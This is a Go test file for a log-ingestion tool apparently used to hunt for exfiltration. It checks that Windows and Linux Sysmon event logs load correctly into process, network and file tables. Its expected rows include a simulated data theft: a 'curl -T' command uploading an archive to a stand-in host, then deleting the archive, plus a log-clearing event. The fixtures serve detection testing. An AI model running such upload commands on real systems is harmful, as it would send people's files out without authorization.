package loaders_test

import (
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"exfilhunt/loaders"
)

// winevents returns a file of events that were written for these tests.
func winevents(t *testing.T, name string) (path, text string) {
	t.Helper()
	path = filepath.Join("testdata", "winevent", name)
	content, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return path, string(content)
}

func utf16le(text string) string {
	b := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return string(b)
}

func TestEventsInXML(t *testing.T) {
	path, text := winevents(t, "sysmon.xml")
	for name, path := range map[string]string{
		"as it is": path, "UTF-16": write(t, "events.xml", utf16le(text)), "CRLF": write(t, "events.xml", strings.ReplaceAll(text, "\n", "\r\n")),
		"without a root": write(t, "events.xml", strings.NewReplacer("<Events>\n", "", "</Events>\n", "").Replace(text)),
		"with a prefix":  write(t, "events.xml", strings.NewReplacer("</", "</e:", "<?", "<?", "<", "<e:").Replace(text)),
	} {
		s := tempStore(t)
		r := one(t, s, path)
		if r.Source != "winevent" || r.Format != "winevent-xml" || r.Lines != 4 || r.Loaded != 3 || r.Kinds["Security 1102"] != 1 {
			t.Errorf("%s: %+v", name, r)
		}
		expect(t, s, `SELECT concat_ws('|', Timestamp, DeviceName, ActionType, FileName, FolderPath, SHA256, ProcessId, ProcessCommandLine, AccountDomain, AccountName, ProcessUniqueId,
			InitiatingProcessFileName, InitiatingProcessId, InitiatingProcessCommandLine, InitiatingProcessUniqueId, ReportId) FROM DeviceProcessEvents`,
			`2026-03-03 10:00:01.2|ws-014.kestrel.example|ProcessCreated|powershell.exe|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|`+
				`17f746d82695fa9b35493b41859d39d786d32b23a9d2e00f4011dec7a02402ae|4092|powershell.exe -c "gc a.txt | % { $_ -replace '<b>', '&' }"`+"\nexit"+
				`|KESTREL|j.lindqvist|{a1b2c3d4-0001-69a6-0100-000000000c00}|explorer.exe|3192|C:\Windows\Explorer.EXE|{a1b2c3d4-0001-69a6-0100-000000000b00}|501`)
		expect(t, s, `SELECT concat_ws('|', Timestamp, ActionType, Protocol, LocalIP, LocalPort, LocalIPType, RemoteIP, RemotePort, RemoteIPType, RemoteUrl, InitiatingProcessFileName,
			InitiatingProcessId, InitiatingProcessCommandLine LIKE 'powershell.exe -c %', InitiatingProcessAccountName, AccountName, BytesSent IS NULL) FROM DeviceNetworkEvents`,
			"2026-03-03 10:00:02.5|ConnectionSuccess|Tcp|10.20.4.14|50311|Private|203.0.113.77|443|Public|upd.example|powershell.exe|4092|true|j.lindqvist|j.lindqvist|true")
		expect(t, s, `SELECT concat_ws('|', Timestamp, ActionType, DnsQueryName, DnsQueryType, DnsResponseCode, InitiatingProcessId, InitiatingProcessAccountSid) FROM DeviceEvents`,
			"2026-03-03 10:00:02|DnsQueryResponse|upd.example|A|NOERROR|4092|S-1-5-21-1-2-3-1104")
	}
}

func TestSysmonForLinux(t *testing.T) {
	path, _ := winevents(t, "linux-sysmon.log")
	s := tempStore(t)
	r := one(t, s, path)
	if r.Source != "winevent" || r.Format != "winevent-syslog" || r.Lines != 6 || r.Loaded != 3 || r.Rejected != 1 || r.Kinds["syslog"] != 1 || r.Kinds["Sysmon 5"] != 1 {
		t.Errorf("%+v", r)
	}
	expect(t, s, `SELECT concat_ws('|', Timestamp, DeviceName, FileName, FolderPath, ProcessId, ProcessCommandLine, AccountDomain, AccountName, ProcessVersionInfoOriginalFileName, SHA256,
		InitiatingProcessFileName, InitiatingProcessCommandLine, InitiatingProcessAccountName) FROM DeviceProcessEvents`,
		"2026-03-03 10:00:01.123456|web01|curl|/usr/bin/curl|5120|curl -T /tmp/a.tgz\n https://upd.example/?a=1&b=2||deploy|||bash|-bash|deploy")
	expect(t, s, `SELECT concat_ws('|', Timestamp, DeviceName, ActionType, LocalIP, RemoteIP, RemotePort, RemoteUrl, InitiatingProcessFileName, InitiatingProcessCommandLine, InitiatingProcessUniqueId)
		FROM DeviceNetworkEvents`,
		"2026-03-03 10:00:02|web01|ConnectionSuccess|10.20.9.5|203.0.113.77|443||curl|curl -T /tmp/a.tgz\n https://upd.example/?a=1&b=2|{b2c3d4e5-0001-69a6-0200-000000000a00}")
	expect(t, s, `SELECT concat_ws('|', Timestamp, ActionType, FileName, FolderPath, InitiatingProcessFileName, AccountName) FROM DeviceFileEvents`,
		"2026-03-03 10:00:04|FileDeleted|a.tgz|/tmp/a.tgz|rm|deploy")
	expect(t, s, `SELECT line || ' ' || reason FROM ingest.rejects`, "6 the event is cut")
}

// Rows of Log Analytics with EventData in XML.
func TestTablesWithXML(t *testing.T) {
	const data = `<DataItem type=\"System.XmlData\" time=\"2026-03-03T10:00:02Z\" sourceHealthServiceId=\"a\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">` +
		`<Data Name=\"UtcTime\">2026-03-03 10:00:02.500</Data><Data Name=\"ProcessId\">4092</Data><Data Name=\"Image\">C:\\a\\b.exe</Data><Data Name=\"Protocol\">tcp</Data><Data Name=\"Initiated\">true</Data>` +
		`<Data Name=\"SourceIp\">10.20.4.14</Data><Data Name=\"SourcePort\">50311</Data><Data Name=\"DestinationIp\">203.0.113.77</Data><Data Name=\"DestinationPort\">443</Data></EventData></DataItem>`
	const process = `<EventData xmlns=\"x\"><Data Name=\"NewProcessId\">0x1a4</Data><Data Name=\"NewProcessName\">C:\\Windows\\System32\\cmd.exe</Data><Data Name=\"ProcessId\">0x10</Data></EventData>`
	rows := []string{
		`{"TimeGenerated":"2026-03-03T10:00:00Z","Channel":"Security","Computer":"ws-1","EventID":4624,"EventData":"","Type":"SecurityEvent"}`,
		`{"TenantId":"t","TimeGenerated":"2026-03-03T10:00:02.6Z","Source":"Microsoft-Windows-Sysmon","EventLog":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-1","EventID":3,"UserName":"NT AUTHORITY\\SYSTEM","EventData":"` + data + `","Type":"Event"}`,
		`{"TimeGenerated":"2026-03-03T10:00:01Z","Channel":"Security","EventSourceName":"Microsoft-Windows-Security-Auditing","Computer":"ws-1","EventID":"4688","CommandLine":"cmd.exe /c dir","SubjectUserName":"j.lindqvist","EventData":"` + process + `","Type":"SecurityEvent"}`,
		`{"TimeGenerated":"2026-03-03T10:00:01Z","EventLog":"System","Computer":"ws-1","EventID":7036,"EventData":"<DataItem><EventData/></DataItem>","Type":"Event"}`,
		`{"TimeGenerated":"2026-03-03T10:00:01Z","EventLog":"System","Computer":"ws-1","EventID":7036,"EventData":"<DataItem><EventData>","Type":"Event"}`,
		`{"TimeGenerated":"2026-03-03T10:00:01Z","EventLog":"System","EventID":7036,"EventData":"none"}`,
		`{"TimeGenerated":"2026-03-03T10:00:01Z"`,
	}
	for name, text := range map[string]string{"lines": strings.Join(rows, "\n"), "wrapped": `{"records": [` + strings.Join(rows[:6], ",\n") + `]}`} {
		s := tempStore(t)
		r := one(t, s, write(t, "PT1H.json", text))
		cut := int64(strings.Count(text, "\n") - 5)
		if r.Format != "winevent-table-xml" || r.Loaded != 2 || r.Rejected != 2+cut || r.Kinds["System 7036"] != 1 || r.Kinds["Security 4624"] != 1 {
			t.Errorf("%s: %+v", name, r)
		}
		expect(t, s, `SELECT concat_ws('|', Timestamp, DeviceName, RemoteIP, RemotePort, InitiatingProcessFileName, InitiatingProcessId) FROM DeviceNetworkEvents`,
			"2026-03-03 10:00:02.5|ws-1|203.0.113.77|443|b.exe|4092")
		expect(t, s, `SELECT concat_ws('|', Timestamp, FileName, ProcessId, ProcessCommandLine, AccountName, InitiatingProcessId) FROM DeviceProcessEvents`,
			"2026-03-03 10:00:01|cmd.exe|420|cmd.exe /c dir|j.lindqvist|16")
	}
}

func TestXMLThatIsNoEvent(t *testing.T) {
	for name, text := range map[string]string{
		"another document":     "<?xml version=\"1.0\"?>\n<Sysmon schemaversion=\"4.81\"><EventFiltering/></Sysmon>\n",
		"another Event":        "<Events><Event><Name>a</Name></Event></Events>\n",
		"a syslog without one": "Mar  3 10:00:00 web01 sysmon: started\n",
	} {
		var results []loaders.Result
		s := tempStore(t)
		if err := loaders.Load(t.Context(), s.DB, []string{write(t, "a.log", text)}, loaders.Options{}, func(r loaders.Result) { results = append(results, r) }); err != nil {
			t.Fatal(err)
		}
		if len(results) != 1 || results[0].Source == "winevent" {
			t.Errorf("%s: %+v", name, results)
		}
	}
}

func TestEVTXWithoutItsProgram(t *testing.T) {
	log := make([]byte, 4096+65536)
	copy(log, "ElfFile\x00")
	path := write(t, "Security.evtx", string(log))
	t.Setenv("PATH", t.TempDir())
	s := tempStore(t)
	r := load(t, s, loaders.Options{}, path)[0]
	if r.Err == nil || !strings.Contains(r.Err.Error(), "evtx_dump, which is not on PATH") || !strings.Contains(r.Err.Error(), "cargo install evtx") {
		t.Errorf("%+v", r)
	}
	expect(t, s, "SELECT count(*) FROM ingest.files", "0")
}

// An .evtx file, which goes through XML, gives the rows that evtx_dump's JSON of it gives, which DuckDB reads.
func TestEVTXGivesTheRowsOfItsJSON(t *testing.T) {
	if _, err := exec.LookPath("evtx_dump"); err != nil {
		t.Skipf("no evtx_dump here: %v", err)
	}
	files, err := filepath.Glob(filepath.Join(telemetry(t, "evtx"), "*.evtx"))
	if err != nil || len(files) == 0 {
		t.Fatal("no captures", err)
	}
	rows := map[string]int64{}
	for _, path := range files {
		s := tempStore(t)
		json, err := exec.Command("evtx_dump", "-o", "jsonl", path).Output()
		if err != nil {
			t.Fatal(err)
		}
		a, b := one(t, s, path), one(t, s, write(t, "events.jsonl", string(json)))
		if a.Format != "evtx" || a.Rejected > 0 || fmt.Sprint(a.Rows, a.Kinds, a.Lines) != fmt.Sprint(b.Rows, b.Kinds, b.Lines) {
			t.Errorf("%s: %+v, but its JSON %+v", path, a, b)
		}
		for table, n := range a.Rows {
			rows[table] += n
			const apart = "SELECT * EXCLUDE (SourceId) FROM %[1]s WHERE SourceId = %[2]d"
			x, y := fmt.Sprintf(apart, table, 1), fmt.Sprintf(apart, table, 2)
			expect(t, s, fmt.Sprintf("SELECT count(*) FROM ((%[1]s EXCEPT ALL %[2]s) UNION ALL (%[2]s EXCEPT ALL %[1]s))", x, y), "0")
		}
	}
	t.Logf("rows: %v", rows)
	if rows["DeviceProcessEvents"] == 0 || rows["DeviceNetworkEvents"] == 0 || rows["DeviceFileEvents"] == 0 || rows["DeviceEvents"] == 0 {
		t.Errorf("not every table has rows: %v", rows)
	}
}
